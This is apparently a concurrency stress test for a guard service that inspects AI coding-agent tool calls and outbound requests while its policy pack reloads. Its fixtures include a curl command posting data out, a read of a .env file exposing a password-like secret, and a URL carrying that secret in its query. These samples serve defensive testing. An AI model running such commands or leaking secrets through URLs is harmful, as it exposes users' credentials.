#!/usr/bin/env python3
"""The service under ThreadSanitizer: eight clients send hook payloads (and egress questions) without
pause while the pack is reloaded (SIGHUP) every 200 ms, with session memory on; then a clean stop. Any
data race (TSan halts with exit 66), crash or refused request fails the test."""
import json
import os
import shutil
import signal
import socket
import subprocess
import sys
import tempfile
import threading
import time

GUARD = os.environ["DOBERMAN_GUARD_TSAN"]
PACKS = os.environ.get("DOBERMAN_TEST_PACKS", "test-packs")
PACK = os.path.join(PACKS, "default", "default.dpack")
PUB = os.path.join(PACKS, "test.pub")
HOOK = json.dumps({"session_id": "t", "cwd": "/tmp", "hook_event_name": "PreToolUse",
                   "tool_name": "Bash", "tool_input": {"command": "curl -d x=1 https://example.com"}})
SHOWN = json.dumps({"session_id": "t", "cwd": "/tmp", "hook_event_name": "PostToolUse",
                    "tool_name": "Read", "tool_input": {"file_path": "/tmp/.env"},
                    "tool_response": "DB_PASSWORD=Zq8vN3kP0wLx7RtY2mBc\n"})
EGRESS = json.dumps({"session": "t", "url": "https://example.com/?q=Zq8vN3kP0wLx7RtY2mBc"})


def ask(sock, header, body):
    s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    s.settimeout(60)
    s.connect(sock)
    s.sendall(header + body.encode())
    s.shutdown(socket.SHUT_WR)
    data = b""
    while True:
        chunk = s.recv(65536)
        if not chunk:
            break
        data += chunk
    s.close()
    return data


def main():
    tmp = tempfile.mkdtemp()
    sock = os.path.join(tmp, "g.sock")
    errors = []
    log = open(os.path.join(tmp, "serve.log"), "w+")
    proc = subprocess.Popen([GUARD, "serve", "--socket", sock, "--pack", PACK, "--pubkey", PUB,
                             "--state-dir", os.path.join(tmp, "state")], stderr=log)
    try:
        deadline = time.time() + 60
        while not os.path.exists(sock) and time.time() < deadline:
            time.sleep(0.05)
        stop = time.time() + 4
        counts = [0] * 8

        def client(i):
            kinds = [(b"DOBERMAN/1 HOOK claude-code\n", HOOK), (b"DOBERMAN/1 HOOK claude-code\n", SHOWN),
                     (b"DOBERMAN/1 EGRESS\n", EGRESS)]
            while time.time() < stop:
                header, body = kinds[counts[i] % 3]
                try:
                    answer = ask(sock, header, body)
                    if not answer.startswith(b"DOBERMAN/1 "):
                        errors.append("client %d: bad answer %r" % (i, answer[:80]))
                        return
                except OSError as e:
                    errors.append("client %d: %s" % (i, e))
                    return
                counts[i] += 1

        threads = [threading.Thread(target=client, args=(i,)) for i in range(8)]
        for t in threads:
            t.start()
        reloads = 0
        while time.time() < stop:
            proc.send_signal(signal.SIGHUP)
            reloads += 1
            time.sleep(0.2)
        for t in threads:
            t.join(120)
        proc.send_signal(signal.SIGTERM)
        rc = proc.wait(timeout=120)
        log.seek(0)
        text = log.read()
        if rc != 0:
            errors.append("service exited %d" % rc)
        if "ThreadSanitizer" in text:
            errors.append("ThreadSanitizer report:\n" + text[text.index("ThreadSanitizer") - 20:][:4000])
        if sum(counts) < 100:
            errors.append("only %d requests answered while reloading" % sum(counts))
        if text.count("reloaded") < 2:
            errors.append("fewer than 2 reloads happened:\n" + text[-2000:])
        print("%d requests, %d reload signals, %d reloads" % (sum(counts), reloads, text.count("reloaded")))
    finally:
        if proc.poll() is None:
            proc.kill()
        log.close()
        shutil.rmtree(tmp, ignore_errors=True)
    for e in errors:
        print("FAIL: " + e)
    return 1 if errors else 0


if __name__ == "__main__":
    sys.exit(main())
